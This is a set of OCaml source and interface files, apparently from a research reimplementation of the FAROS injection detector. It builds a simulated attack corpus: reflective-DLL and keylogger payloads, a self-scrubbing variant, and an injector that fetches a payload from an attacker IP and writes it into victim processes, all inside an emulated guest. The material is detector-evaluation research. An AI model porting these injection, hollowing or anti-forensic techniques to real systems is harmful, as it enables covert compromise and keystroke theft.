(** Injected payloads.

    These are the bytes that travel over the wire (or sit inside a
    dropper's image) and end up executing inside a victim process.  Each
    begins with the reflective ritual the paper describes: resolving
    LoadLibraryA, GetProcAddress and VirtualAlloc by walking the kernel
    export directory — the walk whose final pointer load FAROS flags.

    Payloads are assembled for a fixed [origin]: the first allocation a
    victim process grants is deterministic in this guest (heap base
    0x10000000), so the attacker pre-links the payload for that address —
    standing in for the position-independent shellcode real kits
    generate. *)

val default_origin : int
(** Where the first NtAllocateVirtualMemory in a fresh victim lands. *)

val popup : ?origin:int -> ?scrub:bool -> text:string -> unit -> string
(** Proves execution inside the victim with a pop-up (the paper's
    reflective-DLL test payload).  With [scrub], the payload unmaps its own
    region after the pop-up — the transient cleanup that defeats snapshot
    forensics. *)

val keylogger : ?origin:int -> ?keys:int -> ?log:string -> unit -> string
(** The hollowing payload (Lab 3-3's keylogger): resolves its imports
    reflectively, logs [keys] keystrokes and writes them to [log]. *)

val applet_native_stub : origin:int -> unit -> string

val rdll_bootstrap_origin : int
val rdll_image_base : int

val rdll_blob : text:string -> unit -> string
(** The full reflective-DLL technique: a bootstrap plus a sectioned DLL
    image travel over the wire; the bootstrap maps the image section by
    section inside the victim with its own memcpy and calls the entry
    point, which resolves imports reflectively and pops a message box. *)
