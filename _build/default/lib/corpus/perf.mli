(** Table V performance workloads.

    Heavier, longer-running versions of six corpus programs (the paper's
    Skype, Team Viewer, Bozok, Spygate, Pandora and Remote Utility), built
    by looping their behaviour mix.  Workload sizes differ deliberately:
    the paper's observation is that FAROS overhead grows with behavioural
    complexity. *)

val looped_image :
  name:string ->
  port:int ->
  behaviors:Behavior.t list ->
  reps:int ->
  seed:int ->
  Faros_os.Pe.t

val scenario :
  name:string ->
  port:int ->
  behaviors:Behavior.t list ->
  reps:int ->
  seed:int ->
  Scenario.t

val workloads : unit -> (string * Scenario.t) list
(** The six Table V rows, in the paper's order. *)
