lib/corpus/attack_hollowing.mli: Faros_os Scenario
