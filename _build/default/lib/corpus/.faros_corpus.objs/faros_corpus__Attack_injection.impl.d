lib/corpus/attack_injection.ml: Asm Attack_reflective Faros_os Faros_vm Isa List Payloads Progs Scenario Victims
