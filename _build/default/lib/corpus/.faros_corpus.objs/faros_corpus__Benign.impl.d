lib/corpus/benign.ml: Asm Behavior Faros_os Faros_vm Isa List Printf Progs Rats Scenario Victims
