lib/corpus/behavior.ml: Asm Char Faros_vm Isa List Printf Progs String
