lib/corpus/attack_evasive.ml: Asm Attack_reflective Faros_os Faros_vm Isa List Payloads Progs Scenario Victims
