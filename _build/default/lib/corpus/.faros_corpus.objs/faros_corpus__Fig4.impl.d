lib/corpus/fig4.ml: Asm Faros_os Faros_vm Isa List Progs Scenario String
