lib/corpus/perf.mli: Behavior Faros_os Scenario
