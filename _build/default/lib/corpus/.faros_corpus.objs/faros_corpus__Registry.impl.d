lib/corpus/registry.ml: Attack_evasive Attack_hollowing Attack_injection Attack_reflective Behavior Benign Extras Fmt Jit List Rats Scenario
