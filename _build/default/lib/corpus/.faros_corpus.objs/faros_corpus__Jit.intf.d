lib/corpus/jit.mli: Faros_os Scenario
