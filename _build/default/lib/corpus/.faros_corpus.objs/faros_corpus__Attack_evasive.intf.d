lib/corpus/attack_evasive.mli: Faros_os Faros_vm Scenario
