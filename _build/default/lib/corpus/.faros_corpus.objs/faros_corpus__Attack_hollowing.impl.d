lib/corpus/attack_hollowing.ml: Asm Faros_os Faros_vm Isa List Payloads Progs Scenario String Victims
