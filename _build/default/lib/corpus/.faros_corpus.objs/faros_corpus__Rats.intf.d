lib/corpus/rats.mli: Behavior Faros_os Scenario
