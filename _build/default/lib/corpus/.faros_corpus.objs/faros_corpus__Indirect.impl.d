lib/corpus/indirect.ml: Asm Char Faros_os Faros_vm Isa List Progs Scenario String
