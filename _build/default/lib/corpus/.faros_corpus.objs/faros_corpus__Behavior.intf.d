lib/corpus/behavior.mli: Faros_vm
