lib/corpus/registry.mli: Behavior Fmt Scenario
