lib/corpus/payloads.mli:
