lib/corpus/benign.mli: Behavior Scenario
