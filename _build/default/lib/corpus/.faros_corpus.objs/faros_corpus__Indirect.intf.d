lib/corpus/indirect.mli: Faros_os Scenario
