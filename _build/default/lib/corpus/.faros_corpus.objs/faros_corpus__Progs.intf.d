lib/corpus/progs.mli: Asm Faros_vm Isa
