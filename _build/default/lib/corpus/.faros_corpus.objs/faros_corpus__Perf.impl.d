lib/corpus/perf.ml: Asm Behavior Faros_os Faros_vm Isa List Progs Rats Scenario String
