lib/corpus/victims.ml: Faros_os Faros_vm Isa List Progs
