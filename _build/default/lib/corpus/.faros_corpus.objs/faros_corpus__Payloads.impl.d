lib/corpus/payloads.ml: Asm Bytes Faros_os Faros_vm Isa List Progs String
