lib/corpus/attack_reflective.mli: Faros_os Scenario
