lib/corpus/scenario.mli: Core Faros_os Faros_replay
