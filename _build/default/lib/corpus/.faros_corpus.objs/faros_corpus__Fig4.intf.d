lib/corpus/fig4.mli: Faros_os Scenario
