lib/corpus/extras.mli: Faros_os Scenario
