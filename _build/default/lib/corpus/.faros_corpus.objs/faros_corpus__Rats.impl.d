lib/corpus/rats.ml: Asm Behavior Char Faros_os Faros_vm List Printf Progs Scenario String Victims
