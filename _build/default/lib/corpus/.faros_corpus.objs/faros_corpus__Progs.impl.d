lib/corpus/progs.ml: Asm Char Faros_os Faros_vm Isa List String
