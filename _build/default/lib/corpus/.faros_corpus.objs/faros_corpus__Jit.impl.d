lib/corpus/jit.ml: Asm Char Encode Faros_os Faros_vm Isa List Payloads Progs Scenario String
