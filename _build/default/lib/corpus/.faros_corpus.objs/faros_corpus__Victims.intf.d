lib/corpus/victims.mli: Faros_os
