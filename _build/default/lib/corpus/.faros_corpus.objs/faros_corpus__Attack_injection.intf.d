lib/corpus/attack_injection.mli: Faros_os Scenario
