lib/corpus/attack_reflective.ml: Asm Faros_os Faros_vm Isa List Payloads Progs Scenario Victims
