lib/corpus/scenario.ml: Core Faros_os Faros_replay List
