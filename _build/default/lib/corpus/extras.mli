(** Extra benign workloads exercising OS facilities the Table IV corpus
    does not: legitimate DLL loading through the OS loader (visible to
    dlllist, untouched by FAROS) and guest-to-guest loopback IPC. *)

val helper_dll : unit -> Faros_os.Pe.t
val dll_host_image : unit -> Faros_os.Pe.t

val dll_host : unit -> Scenario.t
(** LdrLoadLibrary + LdrGetProcAddress + call: the legitimate linking path
    the reflective technique bypasses. *)

val ipc_port : int
val ipc_server_image : unit -> Faros_os.Pe.t
val ipc_client_image : unit -> Faros_os.Pe.t

val ipc_pair : unit -> Scenario.t
(** Loopback bind/listen/accept between two guest processes. *)

val export_walker_image : unit -> Faros_os.Pe.t

val export_walker : unit -> Scenario.t
(** A benign export-directory walker — the precision boundary of the
    file-borne detection rule: flagged by the default policy, clean under
    {!Core.Config.strict_netflow}. *)

val multi_target_client : unit -> Faros_os.Pe.t

val multi_target : unit -> Scenario.t
(** One downloaded payload injected into two victims: whole-system
    tracking reports both infections in a single replay. *)

val samples : unit -> (string * Scenario.t) list
(** The benign extras (dll_host, ipc_pair) registered with the CLI. *)
