(* Extra benign workloads exercising OS facilities the Table IV corpus does
   not: legitimate DLL loading through the OS loader (visible to dlllist,
   untouched by FAROS) and guest-to-guest loopback IPC. *)

open Faros_vm

(* A DLL exporting one function, and a host that loads it the legitimate
   way: LdrLoadLibrary + LdrGetProcAddress.  The kernel resolves the
   export, the process never reads the export directory, and the module
   shows up in dlllist — the exact opposites of the reflective technique. *)
let helper_dll () =
  Faros_os.Pe.of_program ~name:"helper.dll" ~base:Faros_os.Process.dll_base
    ~exports:[ "double_it" ]
    [
      Progs.lbl "double_it";
      Progs.i (Isa.Add_rr (Isa.r0, Isa.r0));
      Progs.i Isa.Ret;
    ]

let dll_host_image () =
  Faros_os.Pe.of_program ~name:"dll_host.exe" ~base:Faros_os.Process.image_base
    (List.concat
       [
         [ Progs.lbl "start" ];
         [ Progs.lea_label Isa.r1 "dll"; Progs.movi Isa.r2 10 ];
         Progs.syscall Faros_os.Syscall.ldr_load_library;
         [ Progs.lea_label Isa.r1 "fn"; Progs.movi Isa.r2 9 ];
         Progs.syscall Faros_os.Syscall.ldr_get_proc_address;
         [
           Progs.movr Isa.r6 Isa.r0;
           Progs.movi Isa.r0 21;
           Progs.i (Isa.Call_r Isa.r6);
           (* exit code = double_it(21) *)
           Progs.movr Isa.r1 Isa.r0;
           Progs.halt;
         ];
         Progs.cstring "dll" "helper.dll";
         Progs.cstring "fn" "double_it";
       ])

let dll_host () =
  Scenario.make "dll_host"
    ~images:[ ("dll_host.exe", dll_host_image ()); ("helper.dll", helper_dll ()) ]
    ~boot:[ "dll_host.exe" ]

(* Loopback IPC: a server binds port 9000 and polls accept; a client
   connects over 127.0.0.1 and sends a message.  Loopback traffic is
   guest-generated and therefore deterministic — it goes through neither
   the record log nor the replay source. *)
let ipc_port = 9000

let ipc_server_image () =
  Faros_os.Pe.of_program ~name:"ipc_server.exe" ~base:Faros_os.Process.image_base
    (List.concat
       [
         [ Progs.lbl "start" ];
         Progs.syscall Faros_os.Syscall.sys_socket;
         [ Progs.movr Isa.r7 Isa.r0 ];
         [ Progs.movr Isa.r1 Isa.r7; Progs.movi Isa.r2 ipc_port ];
         Progs.syscall Faros_os.Syscall.sys_bind;
         [ Progs.movr Isa.r1 Isa.r7 ];
         Progs.syscall Faros_os.Syscall.sys_listen;
         (* poll accept with a bounded budget *)
         [ Progs.movi Isa.r6 2000; Progs.lbl "accept_loop"; Progs.movr Isa.r1 Isa.r7 ];
         Progs.syscall Faros_os.Syscall.sys_accept;
         [
           Progs.i (Isa.Cmp_ri (Isa.r0, -1));
           Asm.Jnz_l "got";
           Progs.i (Isa.Sub_ri (Isa.r6, 1));
           Progs.i (Isa.Cmp_ri (Isa.r6, 0));
           Asm.Jnz_l "accept_loop";
           Progs.halt;
         ];
         [ Progs.lbl "got"; Progs.movr Isa.r7 Isa.r0 ];
         (* poll recv until the client's message lands *)
         [ Progs.movi Isa.r6 2000; Progs.lbl "recv_loop" ];
         [
           Progs.movr Isa.r1 Isa.r7;
           Progs.lea_label Isa.r2 "buf";
           Progs.movi Isa.r3 4;
         ];
         Progs.syscall Faros_os.Syscall.sys_recv;
         [
           Progs.i (Isa.Cmp_ri (Isa.r0, 0));
           Asm.Jnz_l "have_data";
           Progs.i (Isa.Sub_ri (Isa.r6, 1));
           Progs.i (Isa.Cmp_ri (Isa.r6, 0));
           Asm.Jnz_l "recv_loop";
           Progs.halt;
         ];
         [ Progs.lbl "have_data" ];
         [ Progs.lea_label Isa.r1 "buf"; Progs.movi Isa.r2 4 ];
         Progs.syscall Faros_os.Syscall.dbg_print;
         [ Progs.halt ];
         Progs.buffer "buf" 8;
       ])

let ipc_client_image () =
  Faros_os.Pe.of_program ~name:"ipc_client.exe" ~base:Faros_os.Process.image_base
    (List.concat
       [
         [ Progs.lbl "start" ];
         Progs.connect_raw ~ip:"127.0.0.1" ~port:ipc_port;
         [
           Progs.movr Isa.r1 Isa.r7;
           Progs.lea_label Isa.r2 "msg";
           Progs.movi Isa.r3 4;
         ];
         Progs.syscall Faros_os.Syscall.sys_send;
         [ Progs.halt ];
         Progs.cstring "msg" "ping";
       ])

let ipc_pair () =
  Scenario.make "ipc_pair"
    ~images:
      [ ("ipc_server.exe", ipc_server_image ()); ("ipc_client.exe", ipc_client_image ()) ]
    ~boot:[ "ipc_server.exe"; "ipc_client.exe" ]


(* A benign export-directory walker: an AV-scanner-like tool that
   legitimately parses the export table from its own (file-loaded, never
   network-touched) code.  This is the precision/recall boundary of the
   file-borne detection rule: the default policy (which needs the file
   rule to catch Fig. 10's hollowing) flags it, the strict netflow-only
   policy does not.  Kept out of the evaluation sweep; the test suite
   documents the tradeoff. *)
let export_walker_image () =
  Faros_os.Pe.of_program ~name:"avscan.exe" ~base:Faros_os.Process.image_base
    (List.concat
       [
         [ Progs.lbl "start" ];
         (* walk the directory like the reflective loader does *)
         [
           Progs.movi Isa.r1
             (Faros_os.Export_table.hash_name "GetTickCount");
           Asm.Call_l "scan";
         ];
         [ Progs.movr Isa.r1 Isa.r0; Progs.halt ];
         Progs.export_scan_sub ~label:"scan";
       ])

let export_walker () =
  Scenario.make "export_walker" ~images:[ ("avscan.exe", export_walker_image ()) ]
    ~boot:[ "avscan.exe" ]

(* One downloaded payload injected into two victims at once: whole-system
   tracking reports both infections in one replay. *)
let multi_target_client () =
  let open Faros_vm in
  let inject target =
    List.concat
      [
        [ Progs.movi Isa.r1 target; Progs.movr Isa.r2 Isa.r5 ];
        Progs.syscall Faros_os.Syscall.nt_allocate_virtual_memory;
        [ Progs.movr Isa.r6 Isa.r0 ];
        [
          Progs.movi Isa.r1 target;
          Progs.movr Isa.r2 Isa.r6;
          Asm.Mov_label (Isa.r3, "pbuf");
          Progs.movr Isa.r4 Isa.r5;
        ];
        Progs.syscall Faros_os.Syscall.nt_write_virtual_memory;
        [ Progs.movi Isa.r1 target ];
        Progs.syscall Faros_os.Syscall.nt_suspend_process;
        [ Progs.movi Isa.r1 target; Progs.movr Isa.r2 Isa.r6 ];
        Progs.syscall Faros_os.Syscall.nt_set_context_thread;
        [ Progs.movi Isa.r1 target ];
        Progs.syscall Faros_os.Syscall.nt_resume_process;
      ]
  in
  Faros_os.Pe.of_program ~name:"multi_client.exe" ~base:Faros_os.Process.image_base
    (List.concat
       [
         [ Progs.lbl "start" ];
         Progs.connect_raw ~ip:Attack_reflective.attacker_ip
           ~port:Attack_reflective.attacker_port;
         Progs.prefixed_recv ~sock_reg:Isa.r7 ~len_buf:"lenbuf" ~data_buf:"pbuf"
           ~recv_sub:"recvx";
         [ Progs.movr Isa.r5 Isa.r3 ];
         inject 100;
         inject 101;
         [ Progs.halt ];
         Progs.recv_exact_sub ~label:"recvx";
         [ Asm.Align 4 ];
         Progs.buffer "lenbuf" 4;
         Progs.buffer "pbuf" 4096;
       ])

let multi_target () =
  let payload = Payloads.popup ~text:"everywhere" () in
  Scenario.make "multi_target_injection"
    ~images:
      [
        ("notepad.exe", Victims.notepad ());
        ("firefox.exe", Victims.firefox ());
        ("multi_client.exe", multi_target_client ());
      ]
    ~actors:[ Attack_reflective.attacker_actor ~payload ]
    ~boot:[ "notepad.exe"; "firefox.exe"; "multi_client.exe" ]

let samples () =
  [ ("dll_host", dll_host ()); ("ipc_pair", ipc_pair ()) ]
