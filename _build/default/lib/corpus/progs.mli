(** Guest-assembly building blocks shared by the whole corpus.

    Conventions: syscall number in r0, args in r1..r5, result in r0 (set by
    the kernel); r6 scratch for API dispatch; r7 callee-owned long-lived
    value (e.g. the C2 socket handle).  Subroutine generators take a
    [label] prefix so a program can instantiate them without clashes. *)

open Faros_vm

val i : Isa.t -> Asm.item
val lbl : string -> Asm.item
val movi : Isa.reg -> int -> Asm.item
val movr : Isa.reg -> Isa.reg -> Asm.item
val addi : Isa.reg -> int -> Asm.item
val halt : Asm.item

val syscall : int -> Asm.item list
(** Raw syscall: invisible to library-level monitors. *)

val call_api : string -> Asm.item list
(** Call an imported API through the IAT: goes through the kernel stub,
    which a library-level monitor (the Cuckoo baseline) hooks. *)

val cstring : string -> string -> Asm.item list
(** [cstring label s]: labelled inline string data. *)

val buffer : string -> int -> Asm.item list
(** [buffer label n]: labelled zero-filled buffer. *)

val lea_label : Isa.reg -> string -> Asm.item
(** Load the address of a label into a register. *)

val memcpy_sub : label:string -> Asm.item list
(** memcpy(r1 = dst, r2 = src, r3 = len); clobbers r4, r5. *)

val export_scan_sub : label:string -> Asm.item list
(** Export-directory scan: r1 = name hash -> r0 = function pointer (0 when
    not found); clobbers r2..r6.  The reflective-resolution routine real
    shellcode implements over the PEB/export directory; its final pointer
    load reads export-table-tagged memory — the exact instruction FAROS
    flags in Figs. 7-10 when this routine's own bytes carry injected
    provenance. *)

val recv_exact_sub : label:string -> Asm.item list
(** recv_exact(r1 = socket, r2 = buf, r3 = len): loops raw recv until [len]
    bytes arrived or the stream is dry; bytes read in r4. *)

val connect_raw : ip:string -> port:int -> Asm.item list
(** Connect with raw syscalls; socket handle left in r7. *)

val connect_api : ip:string -> port:int -> Asm.item list
(** Connect through the imported socket/connect APIs (Cuckoo-visible). *)

val idle_loop : label:string -> count:int -> Asm.item list
(** Busy work: [count] iterations of tick polling. *)

val prefixed_recv :
  sock_reg:Isa.reg ->
  len_buf:string ->
  data_buf:string ->
  recv_sub:string ->
  Asm.item list
(** Receive a [len:u32][payload] frame; leaves the length in r3. *)

val u32_le : int -> string
(** Host-side little-endian u32. *)

val frame : string -> string
(** Host-side length-prefix framing, for actors serving payloads. *)
