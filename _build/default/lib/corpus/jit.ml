(* JIT workloads: the Table III false-positive study.

   JITs are legitimately injection-shaped: code arrives over the network
   and ends up executing after being linked against system libraries.  Two
   flavours are modelled, mirroring why the paper saw 2/10 applets flag and
   0/10 AJAX sites:

   - *Laundering JIT*: the generator translates downloaded bytes through a
     lookup table (an address dependency), so under FAROS's
     direct-flow-only policy the emitted code is untainted — no flag.
     All ten AJAX sites and eight of the applets compile this way.
   - *Native-stub applet*: two applets ship a native helper routine whose
     bytes are copied verbatim into the JVM's code cache (a direct copy),
     execute with network provenance, and resolve symbols by walking the
     export directory — FAROS flags them, and the analyst whitelists the
     JVM. *)

open Faros_vm

let web_ip = "93.184.216.34"
let web_port = 80

let identity_table = String.init 256 Char.chr

(* Emit one [mov r1, <byte>] from a laundered byte in r2 at emit pointer r6,
   plus loop bookkeeping over r4 (index) and r5 (length).  Shared by the
   browser's JS JIT and the JVM's bytecode JIT. *)
let gen_loop ~label ~src_ptr_setup =
  List.concat
    [
      [ Progs.movi Isa.r4 0; Progs.lbl (label ^ "_loop") ];
      [ Progs.i (Isa.Cmp_rr (Isa.r4, Isa.r5)); Asm.Jge_l (label ^ "_done") ];
      src_ptr_setup;
      (* launder: r2 <- table[r2] — the address dependency *)
      [
        Asm.Mov_label (Isa.r1, "xtable");
        Progs.i (Isa.Load (1, Isa.r2, Isa.indexed ~base:Isa.r1 ~scale:1 Isa.r2));
      ];
      (* emit: opcode, reg, imm byte, three zero bytes *)
      [
        Progs.movi Isa.r3 Encode.op_mov_ri;
        Progs.i (Isa.Store (1, Isa.based Isa.r6, Isa.r3));
        Progs.movi Isa.r3 1;
        Progs.i (Isa.Store (1, Isa.based ~disp:1 Isa.r6, Isa.r3));
        Progs.i (Isa.Store (1, Isa.based ~disp:2 Isa.r6, Isa.r2));
        Progs.movi Isa.r3 0;
        Progs.i (Isa.Store (1, Isa.based ~disp:3 Isa.r6, Isa.r3));
        Progs.i (Isa.Store (1, Isa.based ~disp:4 Isa.r6, Isa.r3));
        Progs.i (Isa.Store (1, Isa.based ~disp:5 Isa.r6, Isa.r3));
        Progs.addi Isa.r6 6;
        Progs.addi Isa.r4 1;
        Asm.Jmp_l (label ^ "_loop");
      ];
      [ Progs.lbl (label ^ "_done") ];
      (* terminate the generated code with a ret *)
      [
        Progs.movi Isa.r3 Encode.op_ret;
        Progs.i (Isa.Store (1, Isa.based Isa.r6, Isa.r3));
      ];
    ]

let call_cached =
  [
    Asm.Mov_label (Isa.r1, "slot_cache");
    Progs.i (Isa.Load (4, Isa.r1, Isa.based Isa.r1));
    Progs.i (Isa.Call_r Isa.r1);
  ]

(* The AJAX browser: fetches a script, JIT-compiles it (laundering), runs
   the generated code, then resolves a symbol through the benign
   GetProcAddress path. *)
let browser_ajax_image ~name ~request =
  let items =
    List.concat
      [
        [ Progs.lbl "start" ];
        Progs.connect_raw ~ip:web_ip ~port:web_port;
        [
          Progs.movr Isa.r1 Isa.r7;
          Progs.lea_label Isa.r2 "req";
          Progs.movi Isa.r3 (String.length request);
        ];
        Progs.syscall Faros_os.Syscall.sys_send;
        Progs.prefixed_recv ~sock_reg:Isa.r7 ~len_buf:"lenbuf" ~data_buf:"script"
          ~recv_sub:"recvx";
        [ Progs.movr Isa.r5 Isa.r3 ];
        (* code cache *)
        [ Progs.movi Isa.r1 0; Progs.movi Isa.r2 4096 ];
        Progs.syscall Faros_os.Syscall.nt_allocate_virtual_memory;
        [
          Asm.Mov_label (Isa.r6, "slot_cache");
          Progs.i (Isa.Store (4, Isa.based Isa.r6, Isa.r0));
          Progs.movr Isa.r6 Isa.r0;
        ];
        gen_loop ~label:"gen"
          ~src_ptr_setup:
            [
              Asm.Mov_label (Isa.r1, "script");
              Progs.i (Isa.Load (1, Isa.r2, Isa.indexed ~base:Isa.r1 ~scale:1 Isa.r4));
            ];
        call_cached;
        (* benign symbol resolution *)
        [ Progs.lea_label Isa.r1 "str_gtc"; Progs.movi Isa.r2 12 ];
        Progs.syscall Faros_os.Syscall.ldr_get_proc_address;
        [ Progs.i (Isa.Call_r Isa.r0) ];
        [ Progs.halt ];
        Progs.recv_exact_sub ~label:"recvx";
        Progs.cstring "req" request;
        [ Asm.Align 4 ];
        Progs.buffer "lenbuf" 4;
        Progs.buffer "script" 1024;
        Progs.cstring "xtable" identity_table;
        [ Asm.Align 4; Progs.lbl "slot_cache"; Asm.U32 0 ];
        Progs.cstring "str_gtc" "GetTickCount";
      ]
  in
  Faros_os.Pe.of_program ~name ~base:Faros_os.Process.image_base items

(* The applet browser: downloads the applet, spawns the JVM suspended,
   plants [len][applet] into its heap, resumes. *)
let browser_applet_image () =
  let java = "java.exe" in
  let items =
    List.concat
      [
        [ Progs.lbl "start" ];
        Progs.connect_raw ~ip:web_ip ~port:web_port;
        [
          Progs.movr Isa.r1 Isa.r7;
          Progs.lea_label Isa.r2 "req";
          Progs.movi Isa.r3 10;
        ];
        Progs.syscall Faros_os.Syscall.sys_send;
        Progs.prefixed_recv ~sock_reg:Isa.r7 ~len_buf:"lenbuf" ~data_buf:"applet"
          ~recv_sub:"recvx";
        [ Progs.movr Isa.r5 Isa.r3 ];
        (* child = CreateProcess("java.exe", suspended) *)
        [
          Progs.lea_label Isa.r1 "str_java";
          Progs.movi Isa.r2 (String.length java);
          Progs.movi Isa.r3 1;
        ];
        Progs.syscall Faros_os.Syscall.nt_create_process;
        [ Progs.movr Isa.r7 Isa.r0 ];
        (* plant [len][applet] at the child's heap base *)
        [ Progs.movr Isa.r1 Isa.r7; Progs.movr Isa.r2 Isa.r5; Progs.addi Isa.r2 4 ];
        Progs.syscall Faros_os.Syscall.nt_allocate_virtual_memory;
        [ Progs.movr Isa.r6 Isa.r0 ];
        [
          Progs.movr Isa.r1 Isa.r7;
          Progs.movr Isa.r2 Isa.r6;
          Asm.Mov_label (Isa.r3, "lenbuf");
          Progs.movi Isa.r4 4;
        ];
        Progs.syscall Faros_os.Syscall.nt_write_virtual_memory;
        [
          Progs.movr Isa.r1 Isa.r7;
          Progs.i (Isa.Lea (Isa.r2, Isa.based ~disp:4 Isa.r6));
          Asm.Mov_label (Isa.r3, "applet");
          Progs.movr Isa.r4 Isa.r5;
        ];
        Progs.syscall Faros_os.Syscall.nt_write_virtual_memory;
        [ Progs.movr Isa.r1 Isa.r7 ];
        Progs.syscall Faros_os.Syscall.nt_resume_process;
        [ Progs.halt ];
        Progs.recv_exact_sub ~label:"recvx";
        Progs.cstring "req" "GET applet";
        Progs.cstring "str_java" java;
        [ Asm.Align 4 ];
        Progs.buffer "lenbuf" 4;
        Progs.buffer "applet" 1024;
      ]
  in
  Faros_os.Pe.of_program ~name:"browser.exe" ~base:Faros_os.Process.image_base items

(* The JVM: reads the planted applet, then either JIT-compiles bytecode
   through the lookup table or memcpys a shipped native stub into the code
   cache — the applet's header byte selects, as real JVMs branch on whether
   a method has a native implementation. *)
let java_image () =
  let planted = Faros_os.Process.heap_base in
  let items =
    List.concat
      [
        [ Progs.lbl "start" ];
        (* code cache first, so register pressure stays manageable *)
        [ Progs.movi Isa.r1 0; Progs.movi Isa.r2 4096 ];
        Progs.syscall Faros_os.Syscall.nt_allocate_virtual_memory;
        [
          Asm.Mov_label (Isa.r6, "slot_cache");
          Progs.i (Isa.Store (4, Isa.based Isa.r6, Isa.r0));
        ];
        (* r5 = applet len - 1 (skip header); header in r3; body at planted+5 *)
        [
          Progs.movi Isa.r2 planted;
          Progs.i (Isa.Load (4, Isa.r5, Isa.based Isa.r2));
          Progs.i (Isa.Load (1, Isa.r3, Isa.based ~disp:4 Isa.r2));
          Progs.i (Isa.Sub_ri (Isa.r5, 1));
          Progs.movi Isa.r2 (planted + 5);
          Progs.i (Isa.Cmp_ri (Isa.r3, 1));
          Asm.Jz_l "template";
        ];
        (* bytecode path: laundering JIT *)
        [
          Asm.Mov_label (Isa.r6, "slot_cache");
          Progs.i (Isa.Load (4, Isa.r6, Isa.based Isa.r6));
        ];
        gen_loop ~label:"gen"
          ~src_ptr_setup:
            [
              Progs.movi Isa.r1 (planted + 5);
              Progs.i (Isa.Load (1, Isa.r2, Isa.indexed ~base:Isa.r1 ~scale:1 Isa.r4));
            ];
        call_cached;
        [ Asm.Jmp_l "after" ];
        (* native-stub path: template copy into the cache *)
        [ Progs.lbl "template" ];
        [
          Asm.Mov_label (Isa.r1, "slot_cache");
          Progs.i (Isa.Load (4, Isa.r1, Isa.based Isa.r1));
          Progs.movr Isa.r3 Isa.r5;
          Asm.Call_l "memcpy";
        ];
        call_cached;
        [ Progs.lbl "after" ];
        (* benign resolution: Sleep(1) through the kernel *)
        [ Progs.lea_label Isa.r1 "str_slp"; Progs.movi Isa.r2 5 ];
        Progs.syscall Faros_os.Syscall.ldr_get_proc_address;
        [ Progs.movr Isa.r6 Isa.r0; Progs.movi Isa.r1 1; Progs.i (Isa.Call_r Isa.r6) ];
        [ Progs.halt ];
        Progs.memcpy_sub ~label:"memcpy";
        Progs.cstring "xtable" identity_table;
        [ Asm.Align 4; Progs.lbl "slot_cache"; Asm.U32 0 ];
        Progs.cstring "str_slp" "Sleep";
      ]
  in
  Faros_os.Pe.of_program ~name:"java.exe" ~base:Faros_os.Process.image_base items

(* The JVM's cache lands at heap_base + 2 pages: the browser's plant
   consumed the first page plus its guard. *)
let java_cache_base = Faros_os.Process.heap_base + (2 * Faros_vm.Phys_mem.page_size)

let web_actor ~payload =
  {
    Faros_os.Netstack.actor_name = "webserver";
    actor_ip = Faros_os.Types.Ip.of_string web_ip;
    actor_port = web_port;
    on_connect = (fun _ -> []);
    on_data = (fun _flow _req -> [ Progs.frame payload ]);
  }

(* Deterministic pseudo-bytecode derived from the applet's name. *)
let bytecode_of ~name ~len =
  String.init len (fun k ->
      Char.chr ((Faros_os.Export_table.hash_name name + (k * 31)) land 0xFF))

let applet_scenario ~name ~native =
  let body =
    if native then Payloads.applet_native_stub ~origin:java_cache_base ()
    else bytecode_of ~name ~len:48
  in
  let applet = (if native then "\x01" else "\x00") ^ body in
  Scenario.make ("applet_" ^ name)
    ~images:[ ("browser.exe", browser_applet_image ()); ("java.exe", java_image ()) ]
    ~actors:[ web_actor ~payload:applet ]
    ~boot:[ "browser.exe" ]

let ajax_scenario ~site =
  let request = "GET " ^ site in
  let script = bytecode_of ~name:site ~len:64 in
  Scenario.make ("ajax_" ^ site)
    ~images:[ (site ^ ".exe", browser_ajax_image ~name:(site ^ ".exe") ~request) ]
    ~actors:[ web_actor ~payload:script ]
    ~boot:[ site ^ ".exe" ]

(* Table III's sample set; the two native-stub applets are the expected
   false positives. *)
let applets =
  [
    ("acceleration", false);
    ("equilibrium", false);
    ("pulleysystem", false);
    ("projectile", false);
    ("ncradle", true);
    ("keplerlaw1", false);
    ("inclplane", false);
    ("lever", false);
    ("keplerlaw2", false);
    ("collision", true);
  ]

let ajax_sites =
  [
    "gmail.com";
    "maps.google.com";
    "kayak.com";
    "netflix.com_top100";
    "kiko.com";
    "backpackit.com";
    "sudokucarving.com";
    "pressdisplay.com";
    "rpad.com";
    "brainking.com";
  ]

let samples () =
  List.map
    (fun (name, native) -> (("applet_" ^ name), `Applet, native, applet_scenario ~name ~native))
    applets
  @ List.map (fun site -> (("ajax_" ^ site), `Ajax, false, ajax_scenario ~site)) ajax_sites
