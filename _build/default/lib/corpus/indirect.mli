(** The indirect-flow experiments of Figs. 1 and 2.

    Two guest programs receive tainted input over the network and copy it
    to an output buffer through an indirect flow only: an address
    dependency (str2[j] = lookuptable[str1[j]], Fig. 1) or a control
    dependency (bit-by-bit copy through an if, Fig. 2).  The experiment
    records expose the buffers' addresses so shadow memory can be
    interrogated afterwards. *)

val input_len : int

val lookup_image : unit -> Faros_os.Pe.t
val bitcopy_image : unit -> Faros_os.Pe.t

type experiment = {
  exp_name : string;
  exp_scenario : Scenario.t;
  exp_input_vaddr : int;  (** str1 *)
  exp_output_vaddr : int;  (** str2 *)
  exp_len : int;
}

val lookup_experiment : unit -> experiment
val bitcopy_experiment : unit -> experiment
