(** Benign victim processes: the programs injection targets hide inside.
    They busy-loop long enough for an injector to reach them and halt on
    their own if nothing hijacks them. *)

val worker : name:string -> iterations:int -> Faros_os.Pe.t
val notepad : unit -> Faros_os.Pe.t
val firefox : unit -> Faros_os.Pe.t
val explorer : unit -> Faros_os.Pe.t

val svchost : unit -> Faros_os.Pe.t
(** Hollowing target: created suspended, so it normally never runs. *)

val calc : unit -> Faros_os.Pe.t
(** Spawn-target for the Run behaviour. *)
