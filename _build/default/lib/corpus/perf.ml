(* Table V performance workloads.

   Heavier, longer-running versions of six corpus programs (the paper's
   Skype, Team Viewer, Bozok, Spygate, Pandora and Remote Utility), built
   by looping their behaviour mix [reps] times.  Workload sizes differ
   deliberately: the paper's observation is that FAROS overhead grows with
   behavioural complexity. *)

open Faros_vm

let server_ip = "100.64.11.5"

(* Wrap behaviour fragments in an outer repetition loop.  bp holds the
   repetition counter — no behaviour fragment touches it. *)
let looped_image ~name ~port ~behaviors ~reps ~seed =
  let frags = Behavior.compose ~seed behaviors in
  let imports =
    List.sort_uniq compare ([ "socket"; "connect" ] @ Behavior.imports frags)
  in
